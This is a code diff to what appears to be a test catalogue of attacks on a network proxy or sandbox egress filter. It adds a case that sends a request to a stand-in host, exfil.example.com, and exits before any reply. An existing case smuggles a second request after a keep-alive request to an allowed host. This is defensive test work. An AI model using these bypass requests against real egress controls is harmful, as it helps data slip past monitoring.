@@ -1,7 +1,7 @@
 import { type Attack, type AttackClass, knock, python, shell } from "./attack.ts";
 
 /** What a program can say that speaks to the proxies by itself; without proxies it knocks at the port. */
-const speaker = `import base64,os,socket,struct,urllib.parse as u
+const speaker = `import base64,os,socket,struct,time,urllib.parse as u
 def way(name):
   p=u.urlparse(os.environ.get(name,''))
   return p if p.hostname else None
@@ -230,6 +230,16 @@ s.settimeout(10)
 s.sendall((get('http://ok.example.com/a','Connection: keep-alive')+get('http://exfil.example.com/'+str(PORT))).encode())
 hear(s)
 hear(s)`,
+        ),
+      ),
+      needs: ["curl", "python3"],
+    },
+    {
+      ...afterYes(
+        "late",
+        "a request to another host, by a command that ends before anybody answers",
+        python(
+          `${speaker}s=open_to(H)\ns.sendall(get('http://exfil.example.com/'+str(PORT)).encode())\ntime.sleep(0.05)`,
         ),
       ),
       needs: ["curl", "python3"],
